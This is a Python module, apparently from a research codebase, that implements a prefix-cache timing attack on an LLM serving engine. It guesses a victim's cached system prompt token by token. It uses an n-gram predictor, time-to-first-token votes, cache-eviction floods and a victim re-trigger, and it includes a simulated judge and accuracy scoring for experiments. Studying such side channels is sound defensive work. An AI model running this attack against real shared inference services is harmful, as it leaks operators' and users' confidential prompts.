"""
Prompt stealing through the prefix cache

Recovers a victim's cached system prompt token by token:
1. An n-gram predictor proposes the next token (or block of tokens)
2. The candidate is appended to the recovered prefix and sent as a direct
   request; a vote over TTFT samples decides whether it hit the cache
3. A cross-verification probe without the candidate confirms the hit
4. Rejected candidates have their sampling weight halved
Between samples, batches of filler requests evict the cache and the victim
trigger re-caches the secret prompt.
"""

import json
import logging
import math
from dataclasses import dataclass, field
from typing import Callable, Dict, Hashable, List, Optional, Sequence, Tuple

import numpy as np

from .client import EngineClient
from .corpus import RARE, SYSTEM_TAG, TokenSeq, Vocab, filler_words
from .errors import EmptyCorpus, EvictionIncomplete, InvalidConfig
from .probe import HIT, MISS, VoteConfig, classify_single, decide, measure_pair, sample_row, vote
from .rng import SeededRNG

logger = logging.getLogger(__name__)

SUMMARY_FIELDS = ['prompt_id', 'tokens_recovered', 'accuracy', 'queries_total', 'queries_per_recovered_token']


@dataclass
class PsaConfig:
    """[psa] section."""

    max_guesses_per_position: int = 80
    temperature: float = 0.4
    eviction_count: int = 15
    eviction_tokens: int = 200
    cross_verify: bool = True
    cross_verify_samples: int = 3
    settle_delay: float = field(default=0.2, metadata={'unit': 's'})
    predictor_order: int = 3
    smoothing_alpha: float = 0.01
    max_queries: int = 0
    victims: int = 100
    calibrate_noise: bool = True
    trigger_text: str = 'hello'
    vote: VoteConfig = field(default_factory=VoteConfig)

    def validate(self) -> None:
        if self.max_guesses_per_position < 1:
            raise InvalidConfig("psa.max_guesses_per_position must be at least 1")
        if self.temperature < 0:
            raise InvalidConfig("psa.temperature must be non-negative")
        if self.eviction_count < 0 or self.eviction_tokens < 0:
            raise InvalidConfig("psa eviction batch sizes must be non-negative")
        if self.predictor_order < 1:
            raise InvalidConfig("psa.predictor_order must be at least 1")
        if self.cross_verify_samples < 1:
            raise InvalidConfig("psa.cross_verify_samples must be at least 1")
        self.vote.validate()


class NGramPredictor:
    """
    Add-alpha n-gram next-token model with backoff.

    The distribution for a context comes from its longest suffix (at most
    order-1 tokens, at least one) seen in training; a context with no seen
    suffix gets the uniform distribution.
    """

    def __init__(self, vocab_size: int, order: int = 3, alpha: float = 0.01):
        self.vocab_size = vocab_size
        self.order = order
        self.alpha = alpha
        self.counts: Dict[Tuple[int, ...], Dict[int, int]] = {}
        self._tempered_tables: Dict[Tuple[Tuple[int, ...], float], Tuple[np.ndarray, np.ndarray, frozenset]] = {}

    def fit(self, sequences: Sequence[TokenSeq]) -> 'NGramPredictor':
        self._tempered_tables.clear()
        for seq in sequences:
            for i in range(1, len(seq)):
                for n in range(1, self.order):
                    if i - n < 0:
                        break
                    context = tuple(seq[i - n:i])
                    successors = self.counts.setdefault(context, {})
                    successors[seq[i]] = successors.get(seq[i], 0) + 1
        return self

    def backoff_context(self, context: Sequence[int]) -> Optional[Tuple[int, ...]]:
        for n in range(min(self.order - 1, len(context)), 0, -1):
            suffix = tuple(context[len(context) - n:])
            if suffix in self.counts:
                return suffix
        return None

    def distribution(self, context: Sequence[int]) -> np.ndarray:
        """Probability of every token id after `context`; sums to 1."""
        suffix = self.backoff_context(context)
        if suffix is None:
            return np.full(self.vocab_size, 1.0 / self.vocab_size)
        successors = self.counts[suffix]
        probs = np.full(self.vocab_size, self.alpha, dtype=np.float64)
        ids = np.fromiter(successors.keys(), dtype=np.int64, count=len(successors))
        probs[ids] += np.fromiter(successors.values(), dtype=np.float64, count=len(successors))
        return probs / probs.sum()

    def probability(self, context: Sequence[int], token: int) -> float:
        return float(self.distribution(context)[token])

    def _tempered_table(self, suffix: Tuple[int, ...], temperature: float) -> Tuple[np.ndarray, np.ndarray, frozenset]:
        key = (suffix, temperature)
        table = self._tempered_tables.get(key)
        if table is None:
            successors = self.counts[suffix]
            ids = np.fromiter(successors.keys(), dtype=np.int64, count=len(successors))
            counts = np.fromiter(successors.values(), dtype=np.float64, count=len(successors))
            with np.errstate(divide='ignore'):
                seen = np.log(counts + self.alpha) / temperature
                unseen = np.log(self.alpha) / temperature
            top = max(float(seen.max()), unseen)
            seen_weights = np.exp(seen - top)
            unseen_weight = math.exp(unseen - top) * (self.vocab_size - len(ids)) if np.isfinite(unseen) else 0.0
            cdf = np.cumsum(seen_weights) / (seen_weights.sum() + unseen_weight)
            if unseen_weight == 0.0:
                # no mass outside the seen successors
                cdf[-1] = np.inf
            table = (ids, cdf, frozenset(int(i) for i in ids))
            self._tempered_tables[key] = table
        return table

    def sample(self, context: Sequence[int], temperature: float, rng: np.random.Generator) -> int:
        """
        Draw one token from the tempered distribution after `context`.

        Same law as sampling _tempered(distribution(context)), but only the
        seen successors are enumerated; their cumulative weights are cached
        per context.
        """
        suffix = self.backoff_context(context)
        if suffix is None:
            return int(rng.integers(self.vocab_size))
        ids, cdf, seen = self._tempered_table(suffix, temperature)
        u = rng.random()
        if u < cdf[-1]:
            return int(ids[min(int(np.searchsorted(cdf, u, side='right')), len(ids) - 1)])
        while True:
            token = int(rng.integers(self.vocab_size))
            if token not in seen:
                return token


def train_predictor(sequences: Sequence[TokenSeq], vocab_size: int, order: int = 3,
                    alpha: float = 0.01) -> NGramPredictor:
    """
    Estimate an n-gram predictor from the attacker's prompts.

    Raises:
        EmptyCorpus: If no sequence has at least two tokens
    """
    if not any(len(seq) >= 2 for seq in sequences):
        raise EmptyCorpus("Predictor training needs at least one sequence of two or more tokens")
    predictor = NGramPredictor(vocab_size, order, alpha).fit(sequences)
    logger.info("Trained order-%d predictor on %d sequences (%d contexts)",
                order, len(sequences), len(predictor.counts))
    return predictor


class PenaltyState:
    """Per-position sampling multipliers; each rejection halves one."""

    def __init__(self):
        self._multipliers: Dict[int, Dict[Hashable, float]] = {}

    def multiplier(self, position: int, key: Hashable) -> float:
        return self._multipliers.get(position, {}).get(key, 1.0)

    def penalize(self, position: int, key: Hashable) -> float:
        table = self._multipliers.setdefault(position, {})
        table[key] = table.get(key, 1.0) / 2.0
        return table[key]

    def entries(self, position: int) -> Dict[Hashable, float]:
        return dict(self._multipliers.get(position, {}))


def _tempered(weights: np.ndarray, temperature: float) -> np.ndarray:
    with np.errstate(divide='ignore'):
        logits = np.log(weights) / temperature
    logits -= logits.max()
    scaled = np.exp(logits)
    return scaled / scaled.sum()


def sample_next(predictor: NGramPredictor, context: Sequence[int], temperature: float,
                penalty: Optional[PenaltyState], rng: np.random.Generator, position: int = 0) -> int:
    """
    Draw the next token with probability proportional to (p * penalty) ** (1 / temperature).

    Temperature 0 returns the penalized argmax (lowest id on ties).
    Penalties are looked up under the key (token,) at `position`.
    """
    weights = predictor.distribution(context)
    if penalty is not None:
        for key, mult in penalty.entries(position).items():
            if isinstance(key, tuple) and len(key) == 1:
                weights[key[0]] *= mult
    if temperature <= 0:
        return int(np.argmax(weights))
    return int(rng.choice(len(weights), p=_tempered(weights, temperature)))


def evict_kv(client: EngineClient, count: int, tokens_each: int, rng: SeededRNG,
             verify: Optional[Tuple[str, float]] = None) -> int:
    """
    Flood the prefix cache with filler requests of fresh tokens.

    Args:
        client: Engine client
        count: Number of filler requests
        tokens_each: Filler words per request
        rng: Stream choosing the filler words
        verify: Optional (victim prompt text, theta); after the flood the
            victim prompt is measured against a reference that diverges at
            its first token, and a hit raises EvictionIncomplete

    Returns:
        Number of filler requests sent
    """
    pool = filler_words()
    for _ in range(count):
        words = [pool[rng.randrange(len(pool))] for _ in range(tokens_each)]
        client.direct_ttft(' '.join(words))
    if verify is not None:
        victim_text, theta = verify
        words = victim_text.split()
        reference = ' '.join([RARE] + words[1:])
        sample = measure_pair(client, victim_text, reference)
        if classify_single(sample, theta) == HIT:
            raise EvictionIncomplete(f"Victim prefix still cached after {count} filler requests")
    return count


@dataclass
class JudgeResult:
    hit: bool
    hits: int = 0
    queries: int = 0
    references: int = 0
    fillers: int = 0


class TimingJudge:
    """Decides candidates from TTFT votes against the live engine."""

    def __init__(self, client: EngineClient, trigger: Callable[[], None], cfg: PsaConfig,
                 filler_rng: SeededRNG, granularity: int = 1,
                 sample_sink: Optional[Callable[[dict], None]] = None):
        self.client = client
        self.trigger = trigger
        self.cfg = cfg
        self.vote_cfg = cfg.vote
        self.filler_rng = filler_rng
        self.granularity = granularity
        self.sample_sink = sample_sink

    def _restore(self) -> None:
        evict_kv(self.client, self.cfg.eviction_count, self.cfg.eviction_tokens, self.filler_rng)
        self.trigger()
        self.client.wait(self.cfg.settle_delay)

    def judge(self, known: List[str], chunk: List[str], position: int) -> JudgeResult:
        target = ' '.join(known + chunk)
        reference = ' '.join(known + [RARE] * len(chunk))
        n = self.vote_cfg.n

        recorder = None
        if self.sample_sink is not None:
            guess = ' '.join(chunk)
            recorder = lambda idx, sample, decision: self.sample_sink(  # noqa: E731
                sample_row(position, guess, idx, sample, decision))

        outcome = vote(self.client, target, reference, self.vote_cfg, evictor=self._restore, recorder=recorder)
        result = JudgeResult(hit=outcome.is_hit, hits=outcome.hits, queries=2 * n,
                             references=n, fillers=n * self.cfg.eviction_count)

        if result.hit and self.cfg.cross_verify:
            confirmed = self._cross_verify(known, chunk)
            m = self.cfg.cross_verify_samples
            result.queries += 3 * m
            result.fillers += m * self.cfg.eviction_count
            result.hit = confirmed
        return result

    def _cross_verify(self, known: List[str], chunk: List[str]) -> bool:
        """Compare the candidate against the prefix without it; a hit adds only hit-cost tokens."""
        target = ' '.join(known + chunk)
        aligned = len(known) + len(chunk) - self.granularity
        prefix = ' '.join(known[:max(aligned, 0)])
        diffs = []
        for _ in range(self.cfg.cross_verify_samples):
            self._restore()
            ttft_prefix = self.client.direct_ttft(prefix)
            ttft_target = self.client.direct_ttft(target)
            diffs.append(ttft_target - ttft_prefix)
        return float(np.mean(diffs)) < -self.vote_cfg.theta


class OracleJudge:
    """
    Simulated classifier: single-sample decisions drawn from fixed rates.

    A candidate is correct when it equals the secret at its position; each
    of the n samples reads hit with probability p_hit (correct) or p_fp
    (wrong). Query accounting matches TimingJudge.
    """

    def __init__(self, secret: Sequence[str], p_hit: float, p_fp: float, cfg: PsaConfig, rng: SeededRNG):
        self.secret = list(secret)
        self.p_hit = p_hit
        self.p_fp = p_fp
        self.cfg = cfg
        self.vote_cfg = cfg.vote
        self.rng = rng

    def judge(self, known: List[str], chunk: List[str], position: int) -> JudgeResult:
        start = len(known) - 1
        correct = self.secret[start:start + len(chunk)] == chunk
        rate = self.p_hit if correct else self.p_fp
        n = self.vote_cfg.n
        decisions = [HIT if self.rng.random() < rate else MISS for _ in range(n)]
        hits = decisions.count(HIT)
        result = JudgeResult(hit=decide(decisions, self.vote_cfg.k) == HIT, hits=hits, queries=2 * n,
                             references=n, fillers=n * self.cfg.eviction_count)
        if result.hit and self.cfg.cross_verify:
            m = self.cfg.cross_verify_samples
            result.queries += 3 * m
            result.fillers += m * self.cfg.eviction_count
            result.hit = correct or self.rng.random() < self.p_fp ** m
        return result


@dataclass
class GuessRecord:
    tokens: List[str]
    decision: str
    hits: int


@dataclass
class PositionRecord:
    position: int
    guesses: List[GuessRecord] = field(default_factory=list)
    queries_used: int = 0
    references_used: int = 0
    fillers_used: int = 0
    recovered: Optional[List[str]] = None
    truth: Optional[List[str]] = None

    @property
    def correct(self) -> Optional[bool]:
        if self.recovered is None or self.truth is None:
            return None
        return self.recovered == self.truth


@dataclass
class AttackTrace:
    prompt_id: int
    target_length: int
    positions: List[PositionRecord] = field(default_factory=list)

    @property
    def tokens_recovered(self) -> int:
        return sum(len(p.recovered) for p in self.positions if p.recovered is not None)

    @property
    def correct_tokens(self) -> int:
        return sum(len(p.recovered) for p in self.positions if p.correct)

    @property
    def false_accepts(self) -> int:
        return sum(1 for p in self.positions if p.correct is False)

    @property
    def total_queries(self) -> int:
        return sum(p.queries_used for p in self.positions)

    @property
    def total_references(self) -> int:
        return sum(p.references_used for p in self.positions)

    @property
    def total_fillers(self) -> int:
        return sum(p.fillers_used for p in self.positions)

    @property
    def total_guesses(self) -> int:
        return sum(len(p.guesses) for p in self.positions)

    @property
    def accuracy(self) -> float:
        return self.correct_tokens / self.tokens_recovered if self.tokens_recovered else 0.0

    @property
    def recovery_rate(self) -> float:
        return self.correct_tokens / self.target_length if self.target_length else 0.0

    @property
    def queries_per_recovered_token(self) -> float:
        return self.total_queries / self.correct_tokens if self.correct_tokens else math.inf

    def jsonl_records(self) -> List[str]:
        lines = []
        for p in self.positions:
            lines.append(json.dumps({
                'prompt_id': self.prompt_id,
                'position': p.position,
                'guesses': [{'tokens': g.tokens, 'decision': g.decision, 'hits': g.hits} for g in p.guesses],
                'queries_used': p.queries_used,
                'references_used': p.references_used,
                'fillers_used': p.fillers_used,
                'recovered': p.recovered,
                'correct': p.correct,
            }, ensure_ascii=False))
        return lines

    def summary_row(self) -> dict:
        qpr = self.queries_per_recovered_token
        return {
            'prompt_id': self.prompt_id,
            'tokens_recovered': self.tokens_recovered,
            'accuracy': f"{self.accuracy:.4f}",
            'queries_total': self.total_queries,
            'queries_per_recovered_token': 'inf' if math.isinf(qpr) else f"{qpr:.2f}",
        }


Proposer = Callable[[List[int], int, PenaltyState, int], Tuple[int, ...]]


def predictor_proposer(predictor: NGramPredictor, temperature: float, rng: np.random.Generator) -> Proposer:
    """Proposer drawing whole blocks from the predictor (single tokens when size is 1)."""
    from .kgran import predict_next_k

    def propose(context: List[int], size: int, penalty: PenaltyState, position: int) -> Tuple[int, ...]:
        return predict_next_k(predictor, context, size, temperature, penalty, rng, position=position)

    return propose


class PromptStealer:
    """Token-by-token recovery loop; one in-flight request at a time."""

    def __init__(self, judge, proposer: Proposer, vocab: Vocab, cfg: PsaConfig,
                 granularity: int = 1, skip_failed_positions: bool = False, debug: bool = False):
        self.judge = judge
        self.proposer = proposer
        self.vocab = vocab
        self.cfg = cfg
        self.granularity = granularity
        self.skip_failed_positions = skip_failed_positions
        self.debug = debug

    def _log(self, message: str) -> None:
        """Log debug messages if debug mode is enabled."""
        if self.debug:
            logger.debug(message)

    def recover(self, prompt_id: int, target_length: Optional[int] = None,
                secret: Optional[Sequence[str]] = None) -> AttackTrace:
        """
        Recover a cached system prompt.

        Args:
            prompt_id: Identifier written to the trace
            target_length: Stop after this many tokens (defaults to len(secret))
            secret: True prompt words, used only to score the trace and, with
                skip_failed_positions, to continue past a failed position

        Returns:
            AttackTrace with one record per attempted position
        """
        if target_length is None:
            target_length = len(secret) if secret is not None else 0
        trace = AttackTrace(prompt_id=prompt_id, target_length=target_length)
        known_words = [SYSTEM_TAG]
        known_ids = [self.vocab.id_of[SYSTEM_TAG]]
        penalty = PenaltyState()
        queries = 0

        while target_length == 0 or len(known_words) - 1 < target_length:
            position = len(known_words) - 1
            size = self.granularity - (len(known_words) % self.granularity)
            if target_length and position + size > target_length:
                self._log(f"Prompt {prompt_id}: {target_length - position} trailing tokens below one block")
                break

            truth = list(secret[position:position + size]) if secret is not None else None
            record = PositionRecord(position=position, truth=truth)
            trace.positions.append(record)
            # guess budget counts per token of the block
            for _ in range(self.cfg.max_guesses_per_position * size):
                if self.cfg.max_queries and queries >= self.cfg.max_queries:
                    break
                chunk_ids = self.proposer(known_ids, size, penalty, position)
                chunk = [self.vocab.tokens[i] for i in chunk_ids]
                result = self.judge.judge(known_words, chunk, position)
                queries += result.queries
                record.queries_used += result.queries
                record.references_used += result.references
                record.fillers_used += result.fillers
                record.guesses.append(GuessRecord(chunk, HIT if result.hit else MISS, result.hits))
                if result.hit:
                    record.recovered = chunk
                    break
                penalty.penalize(position, tuple(chunk_ids))

            if record.recovered is not None:
                known_words.extend(record.recovered)
                known_ids.extend(self.vocab.id_of[w] for w in record.recovered)
                continue
            if self.skip_failed_positions and truth is not None and len(truth) == size:
                known_words.extend(truth)
                known_ids.extend(self.vocab.id_of[w] for w in truth)
                continue
            break

        self._log(f"Prompt {prompt_id}: recovered {trace.correct_tokens}/{target_length} tokens "
                  f"with {trace.total_queries} queries")
        return trace


def make_victim_trigger(client: EngineClient, system_text: str, user_text: str = 'hello') -> Callable[[], None]:
    """Callable that makes the victim re-send a synthesized request carrying its system prompt."""
    def trigger() -> None:
        client.synthesized_ttft(system_text, user_text)
    return trigger


def recover_prompt(client: EngineClient, victim_trigger: Callable[[], None], predictor: NGramPredictor,
                   cfg: PsaConfig, vocab: Vocab, secret: Optional[Sequence[str]] = None,
                   prompt_id: int = 0, seed: int = 0,
                   sample_sink: Optional[Callable[[dict], None]] = None) -> AttackTrace:
    """
    Run the timing attack against one cached system prompt (single-token granularity).

    Args:
        client: Attacker client
        victim_trigger: Re-caches the secret prompt on demand
        predictor: Next-token predictor
        cfg: Attack configuration (includes the vote configuration)
        vocab: Shared vocabulary
        secret: True prompt words for scoring; also fixes the target length
        prompt_id: Identifier written to the trace
        seed: Seed for candidate sampling and filler words
        sample_sink: Receives per-sample CSV rows

    Returns:
        AttackTrace
    """
    cfg.validate()
    base = SeededRNG(seed)
    judge = TimingJudge(client, victim_trigger, cfg, base.fork('fillers'), sample_sink=sample_sink)
    proposer = predictor_proposer(predictor, cfg.temperature, np.random.default_rng(base.fork('sampler').seed))
    stealer = PromptStealer(judge, proposer, vocab, cfg, debug=client.debug)
    return stealer.recover(prompt_id, secret=secret)
